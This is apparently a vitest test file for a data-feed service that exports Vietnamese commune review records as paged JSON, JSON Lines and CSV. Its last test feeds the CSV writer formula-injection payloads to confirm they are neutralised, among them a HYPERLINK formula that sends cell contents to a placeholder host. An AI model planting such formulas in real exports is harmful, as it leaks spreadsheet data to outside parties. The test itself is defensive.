/**
 * The feed on both databases: every record of every entity validates against docs/feed.schema.json
 * (draft 2020-12, Ajv), pages follow a stable cursor without gaps or repeats, `updatedSince` gives
 * only what changed, a unit scope only its subtree; JSON Lines and CSV carry the same records;
 * the dump writes a valid manifest.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { beforeAll, expect, it } from 'vitest';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormatsModule from 'ajv-formats';
import { describeEachDialect } from '../test-support/dialects.ts';
import { insertCommune, linkUnits } from '../test-support/factories.ts';
import { insertRecognition } from '../db/recognition.repository.ts';
import { isDomainError } from '../domain/errors.ts';
import { DEMO_SET, demoValues } from '../test-support/report-fixtures.ts';
import { SYSTEM_ACTOR } from './actor.ts';
import { createReview, updateReviewValues } from './review.service.ts';
import { CSV_COLUMNS, FEED_ENTITIES, dumpFeed, getFeedPage, toCsvLines, toJsonLines, type FeedEntity } from './feed.service.ts';

const schema = JSON.parse(readFileSync(path.resolve('docs/feed.schema.json'), 'utf8')) as Record<string, unknown>;
const addFormats = ((addFormatsModule as unknown as { default?: unknown }).default ?? addFormatsModule) as (a: Ajv2020) => Ajv2020;
const ajv = addFormats(new Ajv2020({ allErrors: true, strict: false }));
ajv.addSchema(schema, 'feed');
const DEF: Record<FeedEntity, string> = { units: 'unit', 'criteria-sets': 'criteriaSet', reviews: 'review', values: 'value', evaluations: 'evaluation', recognitions: 'recognition' };

function validate(def: string, data: unknown): void {
  const v = ajv.getSchema(`feed#/$defs/${def}`)!;
  if (!v(data)) throw new Error(`${def} invalid: ${ajv.errorsText(v.errors)}\n${JSON.stringify(data).slice(0, 400)}`);
}

async function all(db: Parameters<typeof getFeedPage>[0], entity: string, q: { updatedSince?: string; unitId?: string; limit?: number } = {}) {
  const items: Array<Record<string, unknown>> = [];
  let cursor: string | null = null;
  let pages = 0;
  do {
    const page = await getFeedPage(db, entity, { ...q, cursor, limit: q.limit ?? 3 });
    validate('page', page);
    items.push(...page.items);
    cursor = page.nextCursor;
    pages++;
  } while (cursor && pages < 1000);
  return { items, pages };
}

describeEachDialect('data feed', (ctx) => {
  let trangAn = '';
  let district = '';
  let newCommune = '';
  let reviewId = 0;

  beforeAll(async () => {
    const t = await insertCommune(ctx.db.kysely, { code: '13510', name: 'Tràng An' });
    trangAn = t.id;
    district = t.parent_id!;
    await insertCommune(ctx.db.kysely, { code: '13513', name: 'Bình Nghĩa' });
    await insertCommune(ctx.db.kysely, { code: '13606', name: 'Tân Hòa', districtCode: '353', districtName: 'Lý Nhân' });
    newCommune = (await insertCommune(ctx.db.kysely, { code: '13504', name: 'Bình Lục', listId: '2025-07' })).id;
    await linkUnits(ctx.db.kysely, trangAn, newCommune, 'full');
    const values = Object.fromEntries(Object.entries(demoValues('2023-03-20', ['5.1'])).map(([k, v]) => [k, { value: v }]));
    const r = await createReview(ctx.db, SYSTEM_ACTOR, { unitId: trangAn, setId: DEMO_SET, reviewedOn: '2023-03-20', values, status: 'submitted' });
    reviewId = r.id;
    await createReview(ctx.db, SYSTEM_ACTOR, { unitId: '13606@2025-03', setId: DEMO_SET, reviewedOn: '2023-03-20', values: { '2.4': { value: 91 } } });
    await insertRecognition(ctx.db.kysely, { unitId: trangAn, level: 'ntm', setId: 'xa-ntm-2021-2025', decisionNo: '123/QĐ-UBND', decidedOn: '2021-12-20', signer: 'Chủ tịch UBND tỉnh', note: null, isDemo: false, at: new Date().toISOString() });
  });

  it('serves every entity; every record validates against the JSON Schema', async () => {
    for (const entity of FEED_ENTITIES) {
      const { items } = await all(ctx.db, entity, { limit: 1000 });
      expect(items.length, entity).toBeGreaterThan(0);
      for (const it of items) validate(DEF[entity], it);
    }
    const units = (await all(ctx.db, 'units', { limit: 1000 })).items;
    const ta = units.find((u) => u.id === trangAn)!;
    expect(ta).toMatchObject({ listId: '2025-03', list: { id: '2025-03' }, fullName: 'Xã Tràng An', successors: [{ id: newCommune, part: 'full', effectiveOn: '2025-07-01' }] });
    expect(units.find((u) => u.id === newCommune)).toMatchObject({ predecessors: [{ id: trangAn, part: 'full' }] });
    expect(units.find((u) => u.id === '35@2025-03')).toMatchObject({ attributes: [{ name: 'region', value: 'DBSH' }] });
    const evals = (await all(ctx.db, 'evaluations')).items;
    const ev = evals.find((e) => e.reviewId === reviewId)!;
    expect(ev).toMatchObject({ criteriaTotal: 19, indicatorsTotal: 75, meetsStandard: false });
    expect((ev.criteria as Record<string, string>)['5']).toBe('not_met');
    expect((ev.indicators as Record<string, string>)['5.1']).toBe('not_met');
    const sets = (await all(ctx.db, 'criteria-sets', { limit: 2 })).items;
    expect(sets.map((s) => s.id)).toContain(DEMO_SET);
  });

  it('pages with a stable cursor: no gaps, no repeats, in id order', async () => {
    const one = await all(ctx.db, 'values', { limit: 7 });
    const big = await all(ctx.db, 'values', { limit: 5000 });
    expect(one.pages).toBeGreaterThan(5);
    expect(one.items.map((v) => v.id)).toEqual(big.items.map((v) => v.id));
    const ids = one.items.map((v) => v.id as number);
    expect([...ids].sort((a, b) => a - b)).toEqual(ids);
    expect(new Set(ids).size).toBe(ids.length);
    try {
      await getFeedPage(ctx.db, 'values', { cursor: 'not-a-cursor' });
      throw new Error('expected an error');
    } catch (e) {
      expect(isDomainError(e) && e.code).toBe('validation_failed');
    }
  });

  it('is incremental by updatedSince: only what changed after the first page\'s asOf', async () => {
    const first = await getFeedPage(ctx.db, 'reviews', { limit: 1000 });
    const asOf = first.asOf;
    expect((await all(ctx.db, 'reviews', { updatedSince: asOf })).items).toEqual([]);
    await new Promise((r) => setTimeout(r, 5));
    const draft = (await all(ctx.db, 'reviews', { limit: 1000 })).items.find((r) => r.status === 'draft')!;
    await updateReviewValues(ctx.db, SYSTEM_ACTOR, draft.id as number, { version: draft.version as number, values: { '2.4': { value: 93 } } });
    const changed = await all(ctx.db, 'reviews', { updatedSince: asOf });
    expect(changed.items.map((r) => r.id)).toEqual([draft.id]);
    const values = await all(ctx.db, 'values', { updatedSince: asOf });
    expect(values.items).toMatchObject([{ reviewId: draft.id, indicatorCode: '2.4', seq: 2, value: 93 }]);
    const evals = await all(ctx.db, 'evaluations', { updatedSince: asOf });
    expect(evals.items.map((e) => e.reviewId)).toEqual([draft.id]);
    expect((await all(ctx.db, 'units', { updatedSince: asOf })).items).toEqual([]);
    expect((await getFeedPage(ctx.db, 'reviews', { updatedSince: '2023-01-01' })).updatedSince).toBe('2023-01-01T00:00:00.000Z');
  });

  it('limits a scoped feed to the unit\'s subtree', async () => {
    const reviews = (await all(ctx.db, 'reviews', { unitId: district })).items;
    expect(reviews.map((r) => r.unitId)).toEqual([trangAn]);
    const units = (await all(ctx.db, 'units', { unitId: district, limit: 100 })).items.map((u) => u.id).sort();
    expect(units).toEqual([district, trangAn, '13513@2025-03'].sort());
    expect((await all(ctx.db, 'values', { unitId: '353@2025-03' })).items.every((v) => v.unitId === '13606@2025-03')).toBe(true);
  });

  it('writes JSON Lines and CSV with the same records, and a dump with a valid manifest', async () => {
    const page = await getFeedPage(ctx.db, 'recognitions', { limit: 100 });
    const lines = toJsonLines(page.items).trim().split('\n').map((l) => JSON.parse(l));
    expect(lines).toEqual(page.items);
    const csv = toCsvLines('recognitions', page.items);
    expect(csv.split('\r\n')[0]).toContain('123/QĐ-UBND');
    expect(csv.split('\r\n')[0]!.split(',').length).toBe(CSV_COLUMNS.recognitions.length);
    const dir = mkdtempSync(path.join(os.tmpdir(), 'datchuan-feed-'));
    try {
      const manifest = await dumpFeed(ctx.db, dir, {});
      validate('manifest', JSON.parse(readFileSync(path.join(dir, 'manifest.json'), 'utf8')));
      expect(manifest.entities.reviews!.count).toBe(2);
      const reviewsCsv = readFileSync(path.join(dir, 'reviews.csv'), 'utf8').trim().split('\r\n');
      expect(reviewsCsv[0]).toBe(CSV_COLUMNS.reviews.join(','));
      expect(reviewsCsv).toHaveLength(3);
      for (const l of readFileSync(path.join(dir, 'units.jsonl'), 'utf8').trim().split('\n')) validate('unit', JSON.parse(l));
      expect(readFileSync(path.join(dir, 'units.jsonl'), 'utf8')).toContain('"fullName":"Xã Tràng An"');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

it('neutralises CSV cells a spreadsheet would run as formulas; numbers stay numbers', () => {
  const hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"Bấm")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];
  const csv = toCsvLines('recognitions', hostile.map((note, i) => ({ id: i + 1, unitId: '13510@2025-03', level: 'ntm', decisionNo: note, signer: 'Nguyễn Văn A', note, isDemo: false })));
  const rows = csv.split('\r\n').filter((r) => r !== '');
  expect(rows).toHaveLength(hostile.length);
  for (const [i, row] of rows.entries()) {
    const cells = row.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"(.*)"$/s, '$1').replace(/""/g, '"'));
    const at = CSV_COLUMNS.recognitions.indexOf('note');
    expect(cells[at]).toBe(`'${hostile[i]}`);
    expect(cells[CSV_COLUMNS.recognitions.indexOf('decisionNo')]).toBe(`'${hostile[i]}`);
  }
  const numbers = toCsvLines('evaluations', [{ reviewId: 7, criteriaMet: -1, indicatorsMet: 0, criteria: [{ code: '=1' }] }]);
  expect(numbers.split(',').slice(0, 6)).toEqual(['7', '', '', '', '', '-1']);
  expect(numbers).toContain('"[{""code"":""=1""}]"');
});
